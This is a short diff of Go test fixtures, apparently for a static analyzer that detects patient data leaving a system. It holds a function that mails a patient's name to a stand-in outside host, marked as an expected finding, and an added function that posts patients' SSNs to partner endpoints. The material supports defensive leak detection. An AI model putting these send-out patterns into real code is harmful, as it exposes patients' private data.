@@ -195,3 +195,8 @@ func safeDial(p model.Patient) {
 func bugMail(p model.Patient) {
 	smtp.SendMail("mail.stranger.example:25", nil, "a@b.example", []string{"c@d.example"}, []byte(p.Name)) // want `to mail.stranger.example`
 }
+
+func safeAgreed(p model.Patient) {
+	http.Post(partner.Agreed+"/v1", "text/plain", strings.NewReader(p.SSN))
+	http.Post(partner.Hub()+"/v1", "text/plain", strings.NewReader(p.SSN))
+}
